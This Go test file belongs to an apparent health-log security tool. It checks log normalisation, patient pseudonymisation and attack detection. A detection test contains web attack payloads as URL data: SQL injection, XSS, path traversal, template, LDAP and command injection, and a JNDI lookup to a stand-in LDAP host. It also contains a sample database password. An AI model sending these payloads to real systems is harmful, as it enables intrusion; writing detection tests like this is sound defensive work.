package line_test

import (
	"errors"
	"hash/fnv"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/tutela-health/tutela"
	"github.com/tutela-health/tutela/detect/event"
	"github.com/tutela-health/tutela/detect/finding"
	"github.com/tutela-health/tutela/detect/intake"
	"github.com/tutela-health/tutela/detect/intake/line"
	"github.com/tutela-health/tutela/detect/intake/syslog"
	"github.com/tutela-health/tutela/detect/rules"
)

// hashed are tokens that tests can foresee.
type hashed struct{}

func (hashed) Patient(id intake.Identifier) tutela.Bucket {
	h := fnv.New64a()
	h.Write([]byte(id.Authority + "|" + id.Value))
	return tutela.Bucket(h.Sum64())
}
func (hashed) Likeness(kind, value string) string { return "0123456789abcdef" }

func now() time.Time { return time.Date(2026, 11, 22, 10, 0, 0, 0, time.UTC) }

func reader() *line.Reader { return line.NewReader(hashed{}, now) }

// TestLinesOfWebServersBecomeOneForm reads the same request as four servers write it.
func TestLinesOfWebServersBecomeOneForm(t *testing.T) {
	t.Parallel()
	at := time.Date(2026, 11, 22, 9, 30, 0, 0, time.UTC)
	for name, lines := range map[string][]string{
		"nginx": {`192.0.2.7 - anna [22/Nov/2026:10:30:00 +0100] "GET /p?id=1 HTTP/1.1" 403 512 "-" "curl/8"`},
		"json":  {`{"time_iso8601":"2026-11-22T09:30:00+00:00","remote_addr":"192.0.2.7","remote_user":"anna","request":"GET /p?id=1 HTTP/1.1","status":403,"body_bytes_sent":512,"http_user_agent":"curl/8"}`},
		"caddy": {`{"ts":1795339800,"request":{"remote_ip":"192.0.2.7","method":"GET","uri":"/p?id=1"},"user_id":"anna","status":403,"size":512}`},
		"iis":   {"#Fields: date time c-ip cs-username cs-method cs-uri-stem cs-uri-query sc-status sc-bytes cs(User-Agent)", "2026-11-22 09:30:00 192.0.2.7 anna GET /p id=1 403 512 curl/8"},
	} {
		r := reader()
		var got line.Read
		for _, l := range lines {
			var err error
			if got, err = r.Read([]byte(l)); err != nil && !errors.Is(err, line.ErrNothing) {
				t.Fatalf("%s: %v", name, err)
			}
		}
		ev := got.Line.Event
		if ev == nil || ev.Log == nil {
			t.Fatalf("%s: %s", name, got.JSON)
		}
		want := []any{at, tutela.UserID("anna"), "192.0.2.7", 403, tutela.OutcomeDenied, true}
		if d := cmp.Diff(want, []any{ev.Time, ev.Actor.ID, ev.Address, ev.Status, ev.Outcome, strings.Contains(ev.Log.Text, `"GET /p?id=1 HTTP/1.1" 403`)}); d != "" {
			t.Errorf("%s: %s\n%s", name, d, got.JSON)
		}
	}
}

// TestLoginsAreRead finds who failed to log in, and from where.
func TestLoginsAreRead(t *testing.T) {
	t.Parallel()
	for text, want := range map[string][3]string{
		"Failed password for invalid user admin from 203.0.113.9 port 52114 ssh2":                                        {"admin", "203.0.113.9", "denied"},
		"Accepted publickey for deploy from 10.1.2.3 port 40022 ssh2: ED25519":                                           {"deploy", "10.1.2.3", "success"},
		`FATAL:  password authentication failed for user "app"`:                                                          {"app", "", "denied"},
		"pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=203.0.113.9  user=root": {"root", "203.0.113.9", "denied"},
		"Login failed for user 'mmeier' from 203.0.113.9":                                                                {"mmeier", "203.0.113.9", "denied"},
		"login page rendered in 3 ms":                                                                                    {"", "", ""},
	} {
		got, err := reader().Syslog(syslog.Message{App: "sshd", Severity: 6, Text: text, Time: now()})
		if err != nil {
			t.Fatal(err)
		}
		ev := got.Line.Event
		if d := cmp.Diff(want, [3]string{string(ev.Actor.ID), ev.Address, string(ev.Outcome)}); d != "" {
			t.Errorf("%s: %s", text, d)
		}
	}
}

// TestPatientsAreNamedByPseudonyms holds structured events, facts, references in text and what a log's members say.
func TestPatientsAreNamedByPseudonyms(t *testing.T) {
	t.Parallel()
	const mrn = "00471122"
	for _, l := range []string{
		`{"class_uid":6005,"activity_id":1,"time":1795339815250,"user":{"uid":"u-17"},"resources":[{"uid":"` + mrn + `","namespace":"HOSP","name":"Anna Meier"}],"unmapped":{"flags":{"` + mrn + `":["vip"]}}}`,
		`{"kind":"relation","relation":"admission","patient":"` + mrn + `","authority":"HOSP","unit":"ward 3"}`,
		`{"time":1795339815250,"message":"opened Patient/` + mrn + ` for Mrs. Meier"}`,
		`{"time":1795339815250,"patient":"Anna Meier","patient_id":` + mrn[2:] + `,"msg":"mrn ` + mrn + `"}`,
	} {
		got, err := reader().Read([]byte(l))
		if err != nil {
			t.Fatalf("%s: %v", l, err)
		}
		for _, secret := range []string{mrn, mrn[2:], "Meier"} {
			if strings.Contains(string(got.JSON), secret) {
				t.Errorf("%s is in %s", secret, got.JSON)
			}
		}
	}
	got, err := reader().Read([]byte(`{"class_uid":6005,"time":1795339815250,"user":"u","resources":[{"uid":4711,"namespace":"HOSP"}]}`))
	rec, ok := got.Record()
	if err != nil || !ok {
		t.Fatalf("%v: %s", err, got.JSON)
	}
	id := intake.Identifier{Authority: "HOSP", Value: "4711"}
	if d := cmp.Diff([]intake.Identifier{id}, rec.Patients); d != "" || rec.Event.Patients[0].Patient != (hashed{}).Patient(id) {
		t.Errorf("%v: %s", rec.Event.Patients, d)
	}
}

// TestAttacksAreStillSeen redacts what the rules must take offence at, in each form of access log.
func TestAttacksAreStillSeen(t *testing.T) {
	t.Parallel()
	for title, target := range map[string]string{
		"SQL injection attempt":        "/p?name=1%27%20OR%20%271%27=%271",
		"Cross-site scripting attempt": "/p?given=%253Cscript%253Ealert(1)%253C/script%253E",
		"Path traversal attempt":       "/f?n=..%c0%af..%c0%afetc/passwd",
		"Template injection attempt":   "/p?family=%7B%7B7*7%7D%7D",
		"LDAP injection attempt":       "/p?user=*)(uid=*))(|(uid=*",
		"Command injection attempt":    "/p?host=127.0.0.1%3Bcat%20/etc/hosts",
		"Lookup injection attempt":     "/p?q=${${lower:j}ndi:ldap://203.0.113.9/a}",
	} {
		for _, l := range []string{
			`192.0.2.7 - - [22/Nov/2026:09:30:00 +0000] "GET ` + target + ` HTTP/1.1" 200 512 "-" "curl"`,
			`{"remote_addr":"192.0.2.7","request_method":"GET","request_uri":"` + target + `","status":200}`,
		} {
			if got := strings.Join(hits(t, l), ", "); !strings.Contains(got, title) {
				t.Errorf("%s: %s, of %s", title, got, l)
			}
		}
	}
	if got := strings.Join(hits(t, `{"msg":"connect","dsn":"postgres://app:hunter2secret@db/clinic"}`), ", "); !strings.Contains(got, "Secret in a log") {
		t.Errorf("a secret: %s", got)
	}
}

// hits are what the shipped rules say of a line.
func hits(t *testing.T, l string) []string {
	t.Helper()
	got, err := reader().Read([]byte(l))
	if err != nil {
		t.Fatal(err)
	}
	var titles []string
	for _, h := range observe(got.Line.Event) {
		titles = append(titles, h.Title)
	}
	return titles
}

func observe(ev *event.Event) []finding.Hit { return rules.New(rules.Open(nil), nil).Observe(ev) }

// TestHostileLinesAreRefused holds the limits.
func TestHostileLinesAreRefused(t *testing.T) {
	t.Parallel()
	for name, l := range map[string]string{
		"deep":    `{"a":` + strings.Repeat("[", 100) + strings.Repeat("]", 100) + `}`,
		"long":    `{"a":"` + strings.Repeat("x", event.MaxLine) + `"}`,
		"two":     `{"a":1}{"b":2}`,
		"cut":     `{"a":`,
		"patient": `{"class_uid":6005,"time":1,"resources":[{"uid":{"a":1}}]}`,
	} {
		if got, err := reader().Read([]byte(l)); err == nil {
			t.Errorf("%s became %s", name, got.JSON[:min(200, len(got.JSON))])
		}
	}
	got, err := reader().Read([]byte(`{"time":"2999-01-01T00:00:00Z","message":"x"}`))
	if err != nil || !got.Line.Event.Time.Equal(now()) {
		t.Errorf("a time to come is believed: %v %s", err, got.JSON)
	}
}

// FuzzRead finds no line that breaks the reader, and none that becomes what cannot be read again.
func FuzzRead(f *testing.F) {
	for _, l := range []string{
		`192.0.2.7 - - [22/Nov/2026:09:30:00 +0000] "GET /p HTTP/1.1" 200 512 "-" "c"`, "#Fields: date time c-ip cs-uri-stem", `{"class_uid":6005,"time":1,"resources":[{"uid":"a"}],"unmapped":{"flags":{"a":["vip"]}}}`,
		`{"kind":"chart","patient":"7","vip":true}`, `{"ts":1795339800.25,"level":"error","msg":"x","user":{"uid":1}}`, "Failed password for root from 1.2.3.4 port 1", `{"a b":[1,{"c":null}]}`,
	} {
		f.Add(l)
	}
	f.Fuzz(func(t *testing.T, l string) {
		r := reader()
		got, err := r.Read([]byte(l))
		if err != nil {
			return
		}
		if _, err := event.ParseLine(got.JSON); err != nil {
			t.Errorf("%q became %s: %v", l, got.JSON, err)
		}
	})
}
